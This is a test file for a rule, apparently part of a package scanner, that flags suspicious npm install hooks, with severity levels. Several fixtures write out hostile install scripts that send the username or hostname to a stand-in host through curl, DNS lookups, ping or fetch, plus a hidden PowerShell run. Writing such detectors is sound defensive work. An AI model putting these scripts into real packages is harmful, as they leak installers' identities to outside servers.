import { testRule } from '../../../testing/rule-checks.ts';
import { installHook } from './install-hook.ts';

const hook = (command: string, name = 'postinstall') => ({
  'package.json': JSON.stringify({ name: 'a', scripts: { [name]: command } }),
});

testRule(installHook, {
  caught: [
    {
      of: 'a name of the person, told to another machine',
      files: { 'package.json': '{"scripts":{"preinstall":"curl -s https://in.example/?u=$(whoami)"}}' },
      severity: 'critical',
      permissions: null,
    },
    {
      of: 'a name of the machine in a question of DNS',
      files: { 'package.json': '{"scripts":{"preinstall":"nslookup `hostname`.in.example"}}' },
      severity: 'critical',
      permissions: null,
    },
    {
      of: 'a machine without a name',
      files: {
        'package.json': '{"scripts":{"install":"node a.js"}}',
        'a.js': "fetch('http://203.0.113.7:8080/x');\n",
      },
      severity: 'critical',
      says: 'without a name',
      permissions: null,
    },
    {
      of: 'a hidden PowerShell',
      files: { 'package.json': '{"scripts":{"install":"powershell -WindowStyle Hidden -Command ./a.ps1"}}' },
      severity: 'critical',
      permissions: null,
    },
    {
      of: 'a command of the code that tells another machine',
      files: {
        'package.json': '{"scripts":{"install":"node a.js"}}',
        'a.js': "require('child_process').exec('curl https://in.example/?h=$(hostname)');\n",
      },
      severity: 'critical',
      says: 'tells another machine',
      permissions: null,
    },
    {
      of: 'a program that it starts by the name of its file',
      files: {
        'package.json': '{"scripts":{"install":"node a.js"}}',
        'a.js': "require('child_process').spawn(process.execPath, [require('path').join(__dirname, 'b.js')]);\n",
        'b.js': "require('child_process').exec('ping -c 1 $(hostname).in.example');\n",
      },
      severity: 'critical',
      permissions: null,
    },
    { of: 'inline code', files: hook("node -e 'x()'"), severity: 'high' },
    {
      of: 'a script that contacts somebody',
      files: { ...hook('node setup.js', 'preinstall'), 'setup.js': "require('http').get('http://in.example');\n" },
      severity: 'high',
      permissions: null,
    },
    {
      of: 'a script that loads one that does',
      files: {
        ...hook('node setup'),
        'setup.js': "require('./lib/a');\n",
        'lib/a.js': "require('child_process').exec('ls');\n",
      },
      severity: 'high',
      permissions: null,
    },
    {
      of: 'a script that does nothing of the kind, lower',
      files: { ...hook('node setup.js'), 'setup.js': 'console.log(1);\n' },
      severity: 'low',
      permissions: null,
    },
    { of: 'another program', files: hook('./configure'), severity: 'medium' },
  ],
  silent: [
    { of: 'what builds native add-ons', files: hook('node-gyp rebuild', 'install') },
    { of: 'git hooks', files: hook('husky install || true') },
    { of: 'scripts that people start', files: hook("node -e 'x()'", 'test') },
    { of: 'a package.json that is none', files: { 'package.json': '{"scripts": [1, 2' } },
  ],
});
